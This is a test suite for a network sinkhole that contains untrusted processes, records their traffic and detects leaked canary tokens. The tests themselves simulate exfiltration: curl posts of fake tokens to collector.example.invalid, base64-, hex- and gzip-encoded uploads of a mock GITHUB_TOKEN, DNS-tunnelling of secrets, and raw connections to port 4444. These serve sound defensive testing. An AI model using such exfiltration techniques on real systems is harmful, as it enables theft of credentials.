import { execFile, spawn } from 'node:child_process';
import { mkdtemp, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SinkholeError, startSinkhole, sweepStaleNetworks, type Sinkhole } from './index.ts';
import { lookAgain, originalDestinationIn } from './sinkhole.ts';
import { eventOf, runInNetns, runNodeInNetns, sandboxFiles, settledEvents } from './testing.ts';

const canary = `skc_${Math.random().toString(36).slice(2, 12)}Q7w`;
const otherCanary = `skc_${Math.random().toString(36).slice(2, 12)}Z3x`;

function host(command: string, args: string[]): Promise<string> {
  return new Promise((resolve, reject) => {
    execFile(command, args, { encoding: 'utf8' }, (error, stdout) => (error === null ? resolve(stdout) : reject(error)));
  });
}

/**
 * What on the host could show a leak: this process's namespaces (other dry runs may come and go
 * meanwhile), the host's interfaces, the host's firewall rules.
 */
async function hostNetworkState(): Promise<{ netns: string[]; links: string; ruleset: string }> {
  const links = (await host('ip', ['-o', 'link', 'show'])).replace(/\s+link\/.*$/gm, '').replace(/state \S+/g, '');
  const netns = (await host('ip', ['netns', 'list'])).split('\n').filter((line) => line.startsWith(`skreg-${process.pid}-`));
  return { netns, links, ruleset: await host('nft', ['list', 'ruleset']) };
}

describe('startSinkhole', () => {
  let workDir: string;

  beforeAll(async () => {
    workDir = await mkdtemp(join(tmpdir(), 'sinkhole-work-'));
  });

  afterAll(async () => {
    await rm(workDir, { recursive: true, force: true });
  });

  describe('with processes in its namespace', () => {
    let sinkhole: Sinkhole;
    let files: Awaited<ReturnType<typeof sandboxFiles>>;

    beforeAll(async () => {
      sinkhole = await startSinkhole({ canaries: [canary, otherCanary], workDir });
      files = await sandboxFiles(sinkhole);
    });

    afterAll(async () => {
      await sinkhole?.close();
      await rm(files?.directory ?? '/nonexistent', { recursive: true, force: true });
    });

    const curl = (...args: string[]) => runInNetns(sinkhole, files.resolvConf, ['curl', '-sS', '-m', '10', ...args]);

    it('records a DNS lookup of a .invalid name through the system resolver and answers it', async () => {
      const run = await runInNetns(sinkhole, files.resolvConf, ['getent', 'ahostsv4', 'lookup.example.invalid']);
      expect(run.stdout).toMatch(/^198\.1[89]\.\d+\.\d+/);
      const event = eventOf(await settledEvents(sinkhole), 'dns', 'lookup.example.invalid');
      expect(event).toMatchObject({ canary: false, detail: { type: 'A', protocol: 'udp' } });
    });

    it('records an HTTP POST to a name, with the canary in its body, as dns, connect and http events', async () => {
      const run = await curl('-w', '%{http_code}', '-o', '/dev/null', '--data-binary', `user=dev&token=${canary}`, 'http://collector.example.invalid/upload?v=1');
      expect(run.stdout).toBe('200');
      const events = await settledEvents(sinkhole);
      expect(eventOf(events, 'dns', 'collector.example.invalid').canary).toBe(false);
      expect(eventOf(events, 'connect', 'collector.example.invalid:80')).toMatchObject({ canary: true, detail: { protocol: 'tcp', port: 80, name: 'collector.example.invalid' } });
      const http = eventOf(events, 'http', 'http://collector.example.invalid/upload?v=1');
      expect(http).toMatchObject({ canary: true, detail: { method: 'POST', host: 'collector.example.invalid', path: '/upload?v=1', body: `user=dev&token=${canary}`, canaries: [canary] } });
    });

    it('records a raw-IP TCP connection to 192.0.2.10:4444 with its first bytes', async () => {
      const source = `import net from 'node:net';
        const socket = net.connect(4444, '192.0.2.10', () => socket.end('HELLO ${otherCanary}\\n'));
        socket.on('close', () => process.exit(0));`;
      const run = await runNodeInNetns(sinkhole, files.resolvConf, source);
      expect(run.code).toBe(0);
      const event = eventOf(await settledEvents(sinkhole), 'connect', '192.0.2.10:4444');
      expect(event).toMatchObject({ canary: true, detail: { address: '192.0.2.10', port: 4444, bytes: 7 + otherCanary.length, firstBytes: `HELLO ${otherCanary}\n`, canaries: [otherCanary] } });
    });

    it('still finds a canary sent after more junk than a connection keeps', async () => {
      const source = `import net from 'node:net';
        const socket = net.connect(9000, '192.0.2.11', () => {
          for (let i = 0; i < 40; i++) socket.write(Buffer.alloc(64 * 1024, 0x41));
          socket.end('|${canary}|');
        });
        socket.on('close', () => process.exit(0));`;
      expect((await runNodeInNetns(sinkhole, files.resolvConf, source)).code).toBe(0);
      const event = eventOf(await settledEvents(sinkhole), 'connect', '192.0.2.11:9000');
      expect(event).toMatchObject({ canary: true, detail: { bytes: 40 * 64 * 1024 + canary.length + 2, truncated: true, canaries: [canary] } });
    });

    it('records a TCP connection to an IPv6 literal, and HTTP over it', async () => {
      const source = `import net from 'node:net';
        const socket = net.connect(8443, '2001:db8::10', () => socket.end('BYE ${canary}'));
        socket.on('close', () => process.exit(0));`;
      expect((await runNodeInNetns(sinkhole, files.resolvConf, source)).code).toBe(0);
      await curl('-o', '/dev/null', 'http://[2001:db8::20]:8080/v6');
      const events = await settledEvents(sinkhole);
      expect(eventOf(events, 'connect', '[2001:db8::10]:8443')).toMatchObject({ canary: true, detail: { address: '2001:db8::10', port: 8443, firstBytes: `BYE ${canary}` } });
      expect(eventOf(events, 'http', 'http://[2001:db8::20]:8080/v6').detail.connection).toBe('[2001:db8::20]:8080');
    });

    it('terminates HTTPS for a client that trusts the per-run CA and sees a canary in a header', async () => {
      const run = await curl('-w', '%{http_code}', '-o', '/dev/null', '--cacert', files.caFile, '-H', `Authorization: Bearer ${canary}`, 'https://api.example.invalid/v1/telemetry');
      expect(run).toMatchObject({ code: 0, stdout: '200' });
      const events = await settledEvents(sinkhole);
      expect(eventOf(events, 'connect', 'api.example.invalid:443')).toMatchObject({
        canary: true,
        detail: { tls: { serverName: 'api.example.invalid', intercepted: true } },
      });
      const http = eventOf(events, 'http', 'https://api.example.invalid/v1/telemetry');
      expect(http.canary).toBe(true);
      expect(http.detail.headers).toContainEqual(['authorization', `Bearer ${canary}`]);
    });

    it('records a client that refuses the certificate as a connection with its server name and no request', async () => {
      const run = await curl('https://strict.example.invalid/secret');
      expect(run.code).not.toBe(0);
      const events = await settledEvents(sinkhole);
      expect(eventOf(events, 'connect', 'strict.example.invalid:443')).toMatchObject({ canary: false, detail: { tls: { serverName: 'strict.example.invalid', intercepted: false } } });
      expect(events.filter((event) => event.kind === 'http')).toEqual([]);
    });

    it('sees canaries sent base64-, hex-, URL-encoded and gzip-compressed', async () => {
      const gzipped = join(files.directory, 'body.gz');
      await writeFile(gzipped, gzipSync(Buffer.from(JSON.stringify({ env: { GITHUB_TOKEN: canary } }))));
      const payload = Buffer.from(`x${canary}`).toString('base64');
      await curl('-o', '/dev/null', '-H', 'Content-Type: application/json', '--data-binary', `{"blob":"${payload}"}`, 'http://b64.example.invalid/');
      await curl('-o', '/dev/null', `http://hex.example.invalid/p?d=${Buffer.from(canary).toString('hex').toUpperCase()}`);
      await curl('-o', '/dev/null', '--data-urlencode', `k="${canary}"`, 'http://urlenc.example.invalid/');
      await curl('-o', '/dev/null', '-H', 'Content-Encoding: gzip', '--data-binary', `@${gzipped}`, 'http://gzip.example.invalid/');
      const events = await settledEvents(sinkhole);
      for (const target of ['http://b64.example.invalid/', `http://hex.example.invalid/p?d=${Buffer.from(canary).toString('hex').toUpperCase()}`, 'http://urlenc.example.invalid/', 'http://gzip.example.invalid/']) {
        expect(eventOf(events, 'http', target).detail.canaries).toEqual([canary]);
      }
    });

    it('follows a client through a proxy: absolute-form HTTP, and HTTPS inside a CONNECT tunnel', async () => {
      await curl('-o', '/dev/null', '-x', 'http://proxy.example.invalid:3128', `http://plain.example.invalid/p?k=${canary}`);
      const run = await curl('-w', '%{http_code}', '-o', '/dev/null', '-x', 'http://proxy.example.invalid:3128', '--cacert', files.caFile, '-H', `X-Secret: ${otherCanary}`, 'https://inner.example.invalid/x');
      expect(run).toMatchObject({ code: 0, stdout: '200' });
      const events = await settledEvents(sinkhole);
      expect(eventOf(events, 'http', `http://plain.example.invalid/p?k=${canary}`)).toMatchObject({ canary: true, detail: { connection: 'proxy.example.invalid:3128' } });
      expect(eventOf(events, 'http', 'http://inner.example.invalid:443').detail.method).toBe('CONNECT');
      expect(eventOf(events, 'http', 'https://inner.example.invalid/x')).toMatchObject({ canary: true, detail: { canaries: [otherCanary], connection: 'proxy.example.invalid:3128' } });
      const tunnelled = events.find((event) => event.kind === 'connect' && event.detail.tunnel === 'inner.example.invalid:443');
      expect(tunnelled).toMatchObject({ target: 'proxy.example.invalid:3128', canary: true, detail: { tls: { serverName: 'inner.example.invalid', intercepted: true } } });
    });

    it('reads a chunked upload', async () => {
      await curl('-o', '/dev/null', '-H', 'Transfer-Encoding: chunked', '--data-binary', `secret=${otherCanary}`, 'http://chunked.example.invalid/c');
      const http = eventOf(await settledEvents(sinkhole), 'http', 'http://chunked.example.invalid/c');
      expect(http).toMatchObject({ canary: true, detail: { body: `secret=${otherCanary}`, bodyBytes: 7 + otherCanary.length } });
    });

    it('sees a canary hex- or base32-encoded across DNS labels (DNS tunnelling)', async () => {
      const hex = Buffer.from(canary).toString('hex');
      const base32 = [...Buffer.from(`k=${otherCanary}`)].map((byte) => byte.toString(2).padStart(8, '0')).join('').match(/.{1,5}/g)!
        .map((bits) => 'abcdefghijklmnopqrstuvwxyz234567'[Number.parseInt(bits.padEnd(5, '0'), 2)]).join('');
      const hexName = `${hex.slice(0, 20)}.${hex.slice(20)}.t1.example.invalid`;
      const base32Name = `${base32.slice(0, 9)}.${base32.slice(9)}.t2.example.invalid`;
      const source = `import { promises as dns } from 'node:dns';
        await dns.resolveTxt(${JSON.stringify(hexName)});
        await dns.resolve4(${JSON.stringify(base32Name)});`;
      const run = await runNodeInNetns(sinkhole, files.resolvConf, source);
      expect(run.stderr).toBe('');
      const events = await settledEvents(sinkhole);
      expect(eventOf(events, 'dns', hexName)).toMatchObject({ canary: true, detail: { type: 'TXT', canaries: [canary] } });
      expect(eventOf(events, 'dns', base32Name)).toMatchObject({ canary: true, detail: { type: 'A', canaries: [otherCanary] } });
    });

    it('records DNS over TCP, and UDP datagrams to any other port', async () => {
      const source = `import dgram from 'node:dgram'; import { Resolver } from 'node:dns/promises';
        const socket = dgram.createSocket('udp4');
        await new Promise((done) => socket.send('PING ${canary}', 9999, '203.0.113.9', done));
        socket.close();
        const resolver = new Resolver(); resolver.setServers(['9.9.9.9']);
        await resolver.resolve4('direct.example.invalid');`;
      const run = await runNodeInNetns(sinkhole, files.resolvConf, source);
      expect(run.stderr).toBe('');
      const tcpQuery = `import net from 'node:net';
        const name = Buffer.from([3, ...Buffer.from('tcp'), 7, ...Buffer.from('example'), 7, ...Buffer.from('invalid'), 0]);
        const message = Buffer.concat([Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), name, Buffer.from([0, 1, 0, 1])]);
        const socket = net.connect(53, '8.8.4.4', () => socket.write(Buffer.concat([Buffer.from([0, message.length]), message])));
        socket.once('data', (answer) => { console.log(answer.readUInt16BE(0) > 12 ? 'answered' : 'short'); socket.destroy(); });`;
      expect((await runNodeInNetns(sinkhole, files.resolvConf, tcpQuery)).stdout.trim()).toBe('answered');
      const events = await settledEvents(sinkhole);
      expect(eventOf(events, 'connect', '203.0.113.9:9999')).toMatchObject({ canary: true, detail: { protocol: 'udp', firstBytes: `PING ${canary}` } });
      expect(eventOf(events, 'dns', 'direct.example.invalid').detail.type).toBe('A');
      expect(eventOf(events, 'dns', 'tcp.example.invalid').detail.protocol).toBe('tcp');
    });

    it('answers blandly so a script goes on: 200, and {} to a client that wants JSON', async () => {
      const plain = await curl('-s', '-w', ' %{http_code}', 'http://bland.example.invalid/install.sh');
      const json = await curl('-s', '-H', 'Accept: application/json', 'http://bland.example.invalid/api');
      expect(plain.stdout).toBe(' 200');
      expect(json.stdout).toBe('{}');
      await settledEvents(sinkhole);
    });

    it('tells apart flows that leave one client port for several destinations, over TCP and UDP', async () => {
      // The second flow's reply would clash with the first's at the listener, so the kernel gives it
      // another source port on the way in; its original destination is still the one it was sent to.
      const source = `import socket
held = []
for port, address in enumerate(['192.0.2.81', '192.0.2.82', '192.0.2.83'], start=8081):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('', 40555))
    s.connect((address, port))
    s.sendall(b'HELLO ' + address.encode() + b'\\n')
    held.append(s)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for address in ['203.0.113.21', '203.0.113.22']:
    u.sendto(b'PING ' + address.encode(), (address, 9999))
for s in held:
    s.close()`;
      const run = await runInNetns(sinkhole, files.resolvConf, ['python3', '-c', source]);
      expect(run).toMatchObject({ code: 0, stderr: '' });
      const events = await settledEvents(sinkhole);
      for (const [address, port] of [['192.0.2.81', 8081], ['192.0.2.82', 8082], ['192.0.2.83', 8083]] as const) {
        expect(eventOf(events, 'connect', `${address}:${port}`).detail).toMatchObject({ protocol: 'tcp', firstBytes: `HELLO ${address}\n` });
      }
      for (const address of ['203.0.113.21', '203.0.113.22']) {
        expect(eventOf(events, 'connect', `${address}:9999`).detail).toMatchObject({ protocol: 'udp', firstBytes: `PING ${address}` });
      }
      expect(events.filter((event) => event.kind === 'connect' && event.target.startsWith(`${sinkhole.dnsServer}:`))).toEqual([]);
    });

    it('gives the same events, in the same order, for the same activity', async () => {
      const activity = async () => {
        await curl('-o', '/dev/null', '--cacert', files.caFile, '-d', `a=${canary}`, 'https://same.example.invalid/a');
        await curl('-o', '/dev/null', 'http://192.0.2.77:8080/b');
        await runInNetns(sinkhole, files.resolvConf, ['getent', 'ahostsv4', 'other.example.invalid']);
        return settledEvents(sinkhole);
      };
      const first = await activity();
      const second = await activity();
      expect(first.length).toBeGreaterThanOrEqual(5);
      expect(second).toEqual(first);
    });
  });

  describe('containment', () => {
    it('lets nothing reach the host: host listeners get no connection, the sinkhole gets it instead', async () => {
      const hostAddress = Object.values(networkInterfaces()).flat().find((entry) => entry !== undefined && entry.family === 'IPv4' && !entry.internal)?.address;
      const accepted: string[] = [];
      const servers = await Promise.all(
        ['127.0.0.1', ...(hostAddress ? [hostAddress] : [])].map(
          (address) =>
            new Promise<net.Server>((resolve) => {
              const server = net.createServer((socket) => {
                accepted.push(address);
                socket.destroy();
              });
              server.listen(0, address, () => resolve(server));
            }),
        ),
      );
      const sinkhole = await startSinkhole({ canaries: [canary], workDir });
      const files = await sandboxFiles(sinkhole);
      try {
        const targets = servers.map((server) => server.address() as net.AddressInfo);
        const source = `import net from 'node:net';
          for (const [address, port] of ${JSON.stringify(targets.map((target) => [target.address, target.port]))}) {
            const result = await new Promise((done) => {
              const socket = net.connect(port, address, () => { socket.end('probe'); done('connected'); });
              socket.on('error', (error) => done(error.code));
            });
            console.log(address, result);
          }`;
        const run = await runNodeInNetns(sinkhole, files.resolvConf, source);
        // The sandbox's own loopback has nothing listening; the host address is the sinkhole's.
        expect(run.stdout).toContain('127.0.0.1 ECONNREFUSED');
        const events = await settledEvents(sinkhole);
        if (hostAddress !== undefined) {
          const port = targets[1]!.port;
          expect(run.stdout).toContain(`${hostAddress} connected`);
          expect(eventOf(events, 'connect', `${hostAddress}:${port}`).detail.firstBytes).toBe('probe');
        }
        expect(accepted).toEqual([]);
        const routes = await host('ip', ['-n', sinkhole.netnsName, '-4', 'route', 'show']);
        expect(routes.trim().split('\n').map((line) => line.trim()).sort()).toEqual([`${sinkhole.dnsServer.replace(/\.1$/, '.0')}/24 dev eth0 proto kernel scope link src ${routes.match(/src (\S+)/)![1]} `.trim(), `default via ${sinkhole.dnsServer} dev eth0`].sort());
        const links = await host('ip', ['-n', sinkhole.netnsName, '-o', 'link', 'show']);
        expect([...links.matchAll(/^\d+: ([^:@]+)/gm)].map((match) => match[1])).toEqual(['lo', 'eth0']);
      } finally {
        await sinkhole.close();
        await rm(files.directory, { recursive: true, force: true });
        for (const server of servers) server.close();
      }
    });
  });

  describe('lifecycle', () => {
    it('runs two sinkholes at once, each seeing only its own traffic, and leaves nothing behind when closed', async () => {
      const before = await hostNetworkState();
      const [first, second] = await Promise.all([startSinkhole({ canaries: [canary], workDir }), startSinkhole({ canaries: [canary], workDir })]);
      expect(first.netnsName).not.toBe(second.netnsName);
      expect(first.netnsPath).toBe(`/run/netns/${first.netnsName}`);
      expect(first.hostsFileLines).toContain('127.0.0.1\tlocalhost');
      expect(first.caCertificatePem).not.toBe(second.caCertificatePem);
      const [firstFiles, secondFiles] = await Promise.all([sandboxFiles(first), sandboxFiles(second)]);
      try {
        await Promise.all([
          runInNetns(first, firstFiles.resolvConf, ['getent', 'ahostsv4', 'first.example.invalid']),
          runInNetns(second, secondFiles.resolvConf, ['getent', 'ahostsv4', 'second.example.invalid']),
        ]);
        expect((await settledEvents(first)).map((event) => event.target)).toEqual(['first.example.invalid']);
        expect((await settledEvents(second)).map((event) => event.target)).toEqual(['second.example.invalid']);
      } finally {
        await Promise.all([first.close(), second.close()]);
        await rm(firstFiles.directory, { recursive: true, force: true });
        await rm(secondFiles.directory, { recursive: true, force: true });
      }
      await first.close();
      expect(await hostNetworkState()).toEqual(before);
      expect(await readdir(workDir)).toEqual([]);
    });

    it('refuses options it cannot use with INVALID_OPTIONS, leaving nothing behind', async () => {
      const before = await hostNetworkState();
      await expect(startSinkhole({ canaries: [canary], workDir: 'relative/dir' })).rejects.toMatchObject({ name: 'SinkholeError', code: 'INVALID_OPTIONS' });
      await expect(startSinkhole({ canaries: [42 as unknown as string], workDir })).rejects.toBeInstanceOf(SinkholeError);
      expect(await hostNetworkState()).toEqual(before);
    });

    it('cleans up what it made when a later step fails (no openssl): TOOL_MISSING, nothing left', async () => {
      const before = await hostNetworkState();
      const bin = await mkdtemp(join(tmpdir(), 'sinkhole-bin-'));
      for (const tool of ['ip', 'nft', 'sh']) {
        const path = (await host('sh', ['-c', `command -v ${tool}`])).trim();
        await symlink(path, join(bin, tool));
      }
      const savedPath = process.env.PATH;
      process.env.PATH = bin;
      try {
        await expect(startSinkhole({ canaries: [canary], workDir })).rejects.toMatchObject({ name: 'SinkholeError', code: 'TOOL_MISSING' });
      } finally {
        process.env.PATH = savedPath;
        await rm(bin, { recursive: true, force: true });
      }
      expect(await hostNetworkState()).toEqual(before);
      expect(await readdir(workDir)).toEqual([]);
    });

    it('sweeps namespaces left by a sinkhole whose process died', async () => {
      const dead = spawn('true');
      const pid = await new Promise<number>((resolve) => dead.on('exit', () => resolve(dead.pid!)));
      const name = `skreg-${pid}-abc123`;
      await host('ip', ['netns', 'add', name]);
      expect(await sweepStaleNetworks()).toContain(name);
      expect(await host('ip', ['netns', 'list'])).not.toContain(name);
    });
  });
});

describe('originalDestinationIn', () => {
  // Lines as /proc/<pid>/net/nf_conntrack prints them in the sink namespace: the sent tuple, then the
  // reply from the listener the flow was redirected to (TCP 10000, UDP 10001).
  const older = 'ipv4     2 tcp      6 118 TIME_WAIT src=192.168.103.2 dst=192.0.2.77 sport=41234 dport=8080 src=192.168.103.1 dst=192.168.103.2 sport=10000 dport=41234 [ASSURED] mark=0 zone=0 use=2';
  const live = 'ipv4     2 tcp      6 431999 ESTABLISHED src=192.168.103.2 dst=198.19.218.62 sport=41234 dport=443 src=192.168.103.1 dst=192.168.103.2 sport=10000 dport=41234 [ASSURED] mark=0 zone=0 use=2';
  // The same client port used again for another destination while the first flow still holds the
  // reply tuple: the kernel gave the new flow the source port 52001 on the way in.
  const reused = 'ipv4     2 tcp      6 431999 ESTABLISHED src=192.168.103.2 dst=192.0.2.78 sport=41234 dport=8081 src=192.168.103.1 dst=192.168.103.2 sport=10000 dport=52001 [ASSURED] mark=0 zone=0 use=2';
  const dns = 'ipv4     2 tcp      6 431999 ESTABLISHED src=192.168.103.2 dst=192.168.103.1 sport=41234 dport=53 src=192.168.103.1 dst=192.168.103.2 sport=53 dport=41234 [ASSURED] mark=0 zone=0 use=2';
  const udp = 'ipv4     2 udp      17 29 src=192.168.103.2 dst=203.0.113.9 sport=41234 dport=9999 [UNREPLIED] src=192.168.103.1 dst=192.168.103.2 sport=10001 dport=41234 mark=0 zone=0 use=2';

  it('takes the live flow over a closing one with the same reply', () => {
    expect(originalDestinationIn([older, live].join('\n'), 'tcp', '192.168.103.2', 41234, 10000)).toEqual({ address: '198.19.218.62', port: 443 });
    expect(originalDestinationIn([older].join('\n'), 'tcp', '192.168.103.2', 41234, 10000)).toEqual({ address: '192.0.2.77', port: 8080 });
  });

  it('finds a flow by the client port the listener saw, which the kernel may have changed on the way in', () => {
    expect(originalDestinationIn([live, reused].join('\n'), 'tcp', '192.168.103.2', 52001, 10000)).toEqual({ address: '192.0.2.78', port: 8081 });
    expect(originalDestinationIn([live, reused].join('\n'), 'tcp', '192.168.103.2', 41234, 10000)).toEqual({ address: '198.19.218.62', port: 443 });
    expect(originalDestinationIn(reused, 'tcp', '192.168.103.2', 41234, 10000)).toBeUndefined();
  });

  it('takes only a flow redirected to the listener that accepted it, and only of its protocol', () => {
    expect(originalDestinationIn([dns, udp].join('\n'), 'tcp', '192.168.103.2', 41234, 10000)).toBeUndefined();
    expect(originalDestinationIn([dns, live, udp].join('\n'), 'udp', '192.168.103.2', 41234, 10001)).toEqual({ address: '203.0.113.9', port: 9999 });
  });

  it('matches the client in either spelling of its address and no other client', () => {
    expect(originalDestinationIn(live, 'tcp', '::ffff:192.168.103.2', 41234, 10000)).toEqual({ address: '198.19.218.62', port: 443 });
    expect(originalDestinationIn(live, 'tcp', '192.168.103.3', 41234, 10000)).toBeUndefined();
  });
});

describe('lookAgain', () => {
  // A flow the connection tracking table does not list yet, as on a busy machine: found on a later look.
  it('looks after each wait until a look finds the value, and no more', async () => {
    let looks = 0;
    const found = await lookAgain(() => (++looks === 4 ? { address: '192.0.2.77', port: 8080 } : undefined), [0, 0, 0, 0, 0, 0]);
    expect(found).toEqual({ address: '192.0.2.77', port: 8080 });
    expect(looks).toBe(4);
  });

  it('gives undefined after every wait was used, and stops at once when a look gives null', async () => {
    let looks = 0;
    expect(await lookAgain(() => { looks += 1; return undefined; }, [0, 0, 0])).toBeUndefined();
    expect(looks).toBe(3);
    looks = 0;
    expect(await lookAgain(() => (++looks === 2 ? null : undefined), [0, 0, 0])).toBeUndefined();
    expect(looks).toBe(2);
  });
});
